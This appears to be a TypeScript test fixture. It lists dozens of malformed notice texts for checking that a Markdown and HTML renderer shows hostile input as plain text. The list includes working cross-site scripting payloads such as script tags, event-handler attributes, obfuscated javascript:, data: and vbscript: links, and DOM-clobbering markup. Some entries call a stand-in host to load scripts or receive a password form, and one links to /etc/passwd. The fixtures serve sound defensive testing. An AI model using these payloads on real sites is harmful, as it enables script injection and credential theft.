/** A notice text that tries to run a script, leave the page or change it; for tests. */
export type MalformedMarkdown = {
  readonly what: string;
  readonly text: string;
  /** The part that is displayed unchanged. */
  readonly reads?: string;
};

const RUN = 'window.hit=1;alert(1)';
const JAVASCRIPT = `javascript:${RUN}`;
/** An origin that a page contacts only if such a text takes effect. */
const ELSEWHERE = 'https://elsewhere.example';

/** HTML, all of which is displayed as text. */
const HTML: readonly (readonly [what: string, text: string])[] = [
  ['a script', `<script>${RUN}</script>`],
  ['a script from elsewhere', `<script src="${ELSEWHERE}/x.js"></script>`],
  ['a script in capitals with a tab', `<ScRiPt\t>${RUN}</sCrIpT >`],
  ['a script in a script', `<scr<script>ipt>${RUN}</scr</script>ipt>`],
  ['a script that closes another element', `</title></textarea></style><script>${RUN}</script>`],
  ['an image with onerror', `<img src=x onerror="${RUN}">`],
  ['an image with onerror and slashes', `<img/src/onerror=${RUN}>`],
  ['an unfinished image', `<img src=x onerror="${RUN}"//`],
  ['an image from elsewhere', `<img src="${ELSEWHERE}/seen.png">`],
  ['a picture with srcset', `<picture><source srcset="${ELSEWHERE}/a.png"><img></picture>`],
  ['an svg with onload', `<svg onload="${RUN}">`],
  ['an svg with a script', `<svg><script href="data:,${RUN}"></script></svg>`],
  [
    'an svg with an animated link',
    `<svg><a><animate attributeName=href values=${JAVASCRIPT}><text y=9>x</text></a></svg>`,
  ],
  ['an svg use', `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"/></svg>`],
  ['math', `<math><mi xlink:href="${JAVASCRIPT}">x</mi></math>`],
  ['a namespace confusion', `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`],
  ['an iframe', `<iframe src="${JAVASCRIPT}"></iframe>`],
  ['an iframe with srcdoc', `<iframe srcdoc="<script>parent.hit=1</script>"></iframe>`],
  ['an object', `<object data="data:text/html,<script>${RUN}</script>"></object>`],
  ['an embed', `<embed src="${ELSEWHERE}/x.swf">`],
  ['a style', '<style>*{display:none;background:url(https://elsewhere.example/s)}</style>'],
  ['a style attribute', `<p style="position:fixed;inset:0;background:url(${ELSEWHERE}/p)">x</p>`],
  ['a stylesheet', `<link rel=stylesheet href="${ELSEWHERE}/x.css">`],
  ['a base', `<base href="${ELSEWHERE}/">`],
  ['a refresh', `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}/">`],
  ['a form', `<form action="${ELSEWHERE}/"><input name=password autofocus onfocus="${RUN}"><button>Go</button></form>`],
  ['a button for another form', `<button form=x formaction="${JAVASCRIPT}">x</button>`],
  ['a template', `<template><img src=x onerror="${RUN}"></template>`],
  ['a shadow root', `<div><template shadowrootmode=open><img src=x onerror="${RUN}"></template></div>`],
  ['details that open', `<details open ontoggle="${RUN}"><summary>x</summary></details>`],
  ['a marquee', `<marquee onstart="${RUN}">x</marquee>`],
  ['a video', `<video><source onerror="${RUN}"></video>`],
  ['an audio', `<audio src=x onerror="${RUN}">`],
  ['a body', `<body onload="${RUN}">`],
  ['a comment that ends early', `<!--><img src=x onerror="${RUN}">-->`],
  ['CDATA', `<![CDATA[<script>${RUN}</script>]]>`],
  ['an instruction', `<?xml-stylesheet href="${JAVASCRIPT}"?>`],
  ['a link with onmouseover', `<a href="#" onmouseover="${RUN}">x</a>`],
  ['a link in HTML', `<a href="${JAVASCRIPT}">x</a>`],
  ['names that clobber the document', '<img name=getElementById><form id=body><input name=cookie id=location>'],
  ['an element of an unknown kind', `<x-y onclick="${RUN}" tabindex=1 autofocus onfocus="${RUN}">x</x-y>`],
  ['a noscript', `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`],
  ['a plaintext', '<plaintext><script>window.hit=1</script>'],
];

/** Markdown with forbidden links, or with HTML in code and headings. `reads` is displayed as text. */
const LINKS: readonly (readonly [what: string, text: string, reads: string])[] = [
  ['javascript:', `[a link](${JAVASCRIPT})`, 'a link'],
  ['javascript: in capitals', `[a link](JaVaScRiPt:alert(1))`, 'a link'],
  ['javascript: after a space and a control', '[a link](<\u0001 javascript:alert(1)>)', 'a link'],
  ['javascript: with a tab', '[a link](<java\tscript:alert(1)>)', 'a link'],
  ['javascript: with entities', '[a link](&#106;avascript&colon;alert(1))', 'a link'],
  ['javascript: with long entities', '[a link](&#x000006A;&#x0000061;vascript:alert(1))', 'a link'],
  ['javascript: with an entity for a tab', '[a link](java&Tab;script:alert(1))', 'a link'],
  ['javascript: with an entity for a new line', '[a link](java&NewLine;script:alert(1))', 'a link'],
  ['javascript: with a percent sign', '[a link](javascript%3Aalert(1))', 'a link'],
  ['javascript: that begins like an address', '[a link](javascript://elsewhere.example/%0Aalert(1))', 'a link'],
  ['javascript: with a full-width colon', '[a link](javascript：alert(1))', 'a link'],
  ['javascript: behind a mark of direction', '[a link](\u202Ejavascript:alert(1))', 'a link'],
  ['javascript: with a zero-width space', '[a link](java\u200Bscript:alert(1))', 'a link'],
  ['data:', `[a link](data:text/html,<script>alert(1)</script>)`, 'a link'],
  ['data: as base64', '[a link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)', 'a link'],
  ['vbscript:', '[a link](vbscript:msgbox(1))', 'a link'],
  ['file:', '[a link](file:///etc/passwd)', 'a link'],
  ['blob:', '[a link](blob:https://elsewhere.example/1)', 'a link'],
  ['view-source:', '[a link](view-source:https://elsewhere.example/)', 'a link'],
  ['an address of this site', '[a link](/user/logout)', 'a link'],
  ['an address of no scheme', '[a link](//elsewhere.example/)', 'a link'],
  ['a name before the host', '[a link](https://bank.example@elsewhere.example/)', 'a link'],
  ['a part of this page', '[a link](#/account)', 'a link'],
  ['a title that breaks out', `[a link](${JAVASCRIPT} "\\" onmouseover=\\"alert(1)")`, 'a link'],
  ['an autolink', `<javascript:alert(1)>`, 'javascript:alert(1)'],
  ['an autolink with data:', '<data:text/html,x>', 'data:text/html,x'],
  ['a definition', `[a link][x]\n\n[x]: ${JAVASCRIPT}`, 'a link'],
  [
    'a definition named like a property',
    `[a link][__proto__] [constructor]\n\n[__proto__]: ${JAVASCRIPT}`,
    'a link [constructor]',
  ],
  ['a definition in a quotation', `[a link][x]\n\n> [x]: <java\tscript:alert(1)>`, 'a link'],
  ['a picture', `![a picture](${JAVASCRIPT})`, 'a picture'],
  ['a picture with data:', '![a picture](data:image/svg+xml,<svg onload=alert(1)>)', 'a picture'],
  ['a picture whose words break out', '![a picture" onerror="alert(1)](x)', 'a picture" onerror="alert(1)'],
  ['a picture of a definition', '![a picture][x]\n\n[x]: vbscript:x', 'a picture'],
  ['a link around a picture', `[![a picture](data:,x)](${JAVASCRIPT})`, 'a picture'],
  ['code that closes itself', '`</code><script>alert(1)</script>`', '</code><script>alert(1)</script>'],
  [
    'a fence with a language',
    '```"><script>alert(1)</script>\n</pre><img src=x onerror=alert(1)>\n```',
    '</pre><img src=x onerror=alert(1)>',
  ],
  ['an image with backticks', `<img src=\`x\` onerror=\`${RUN}\`>`, `<img src=x onerror=${RUN}>`],
  ['a heading', '# <img src=x onerror=alert(1)>', '<img src=x onerror=alert(1)>'],
  ['entities of HTML', '&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;', '<img src=x onerror=alert(1)> <script>'],
];

export const MALFORMED_MARKDOWN: readonly MalformedMarkdown[] = [
  ...HTML.map(([what, text]) => ({ what, text, reads: text })),
  ...LINKS.map(([what, text, reads]) => ({ what: `${what} in Markdown`, text, reads })),
];
